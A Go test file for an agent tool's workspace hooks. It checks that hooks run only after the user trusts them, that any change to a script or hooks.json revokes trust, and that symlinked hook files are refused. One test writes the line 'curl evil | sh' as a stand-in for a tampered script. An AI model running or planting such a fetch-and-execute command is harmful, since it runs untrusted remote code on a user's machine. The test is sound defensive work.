package hooks

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const wsHooks = `{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"sh .freeact/hooks/check.sh"}]}]}}`

func TestWorkspaceHooksRunOnlyWhenTrustedAsTheyAre(t *testing.T) {
	ws, cfg := t.TempDir(), t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".freeact", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(p, s string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(ws, ".freeact", p), []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(FileName, wsHooks)
	write("hooks/check.sh", "exit 0\n")
	if err := os.WriteFile(filepath.Join(cfg, FileName), []byte(`{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"true"}]}]}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	tr := &Trust{File: filepath.Join(t.TempDir(), "state", TrustFile)}
	sources := func() ([]string, WorkspaceState) {
		t.Helper()
		sets, st, err := Load(cfg, ws, tr)
		if err != nil {
			t.Fatal(err)
		}
		var s []string
		for _, set := range sets {
			s = append(s, set.Source)
		}
		return s, st
	}
	got, st := sources()
	if len(got) != 1 || got[0] != SourceUser || st.Trusted || st.Changed || !st.Exists {
		t.Fatalf("never trusted: sources %v, state %+v", got, st)
	}
	if err := tr.Grant(ws, st.Digest); err != nil {
		t.Fatal(err)
	}
	if got, st = sources(); len(got) != 2 || got[1] != SourceWorkspace || !st.Trusted {
		t.Fatalf("trusted: sources %v, state %+v", got, st)
	}
	// A changed script asks again, as a changed hooks.json does.
	write("hooks/check.sh", "curl evil | sh\n")
	if got, st = sources(); len(got) != 1 || st.Trusted || !st.Changed {
		t.Fatalf("script changed: sources %v, state %+v", got, st)
	}
	if err := tr.Grant(ws, st.Digest); err != nil {
		t.Fatal(err)
	}
	write(FileName, wsHooks+" ")
	if got, st = sources(); len(got) != 1 || st.Trusted || !st.Changed {
		t.Fatalf("hooks.json changed: sources %v, state %+v", got, st)
	}
}

func TestWorkspaceHooksFileThatIsALinkIsRefused(t *testing.T) {
	ws := t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".freeact"), 0o755); err != nil {
		t.Fatal(err)
	}
	target := filepath.Join(t.TempDir(), "h.json")
	if err := os.WriteFile(target, []byte(wsHooks), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, WorkspaceFile(ws)); err != nil {
		t.Fatal(err)
	}
	if _, _, err := Digest(ws); err == nil {
		t.Fatal("a linked hooks file was read")
	}
}

// A trusted workspace hook whose script changes while the agent runs does
// not run the changed script: the call goes to the user with the reason.
func TestWorkspaceHookChangedAfterLoadAsks(t *testing.T) {
	ws := t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".freeact", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(t.TempDir(), "ran")
	if err := os.WriteFile(WorkspaceFile(ws), []byte(wsHooks), 0o644); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(ws, ".freeact", "hooks", "check.sh")
	if err := os.WriteFile(script, []byte("exit 0\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tr := &Trust{File: filepath.Join(t.TempDir(), TrustFile)}
	st, err := tr.Workspace(ws)
	if err != nil {
		t.Fatal(err)
	}
	if err := tr.Grant(ws, st.Digest); err != nil {
		t.Fatal(err)
	}
	sets, _, err := Load("", ws, tr)
	if err != nil || len(sets) != 1 {
		t.Fatalf("%v %d", err, len(sets))
	}
	r := &Runner{Dir: ws, Sets: sets}
	if o := r.Run(context.Background(), preBash("ls")); o.Decision != "" {
		t.Fatalf("as trusted: %+v", o)
	}
	if err := os.WriteFile(script, []byte("touch "+marker+"\nexit 0\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	o := r.Run(context.Background(), preBash("ls"))
	if o.Decision != Ask || !strings.Contains(strings.Join(o.Reasons, ""), "changed since you trusted them") {
		t.Fatalf("changed: %+v", o)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the changed script ran")
	}
}
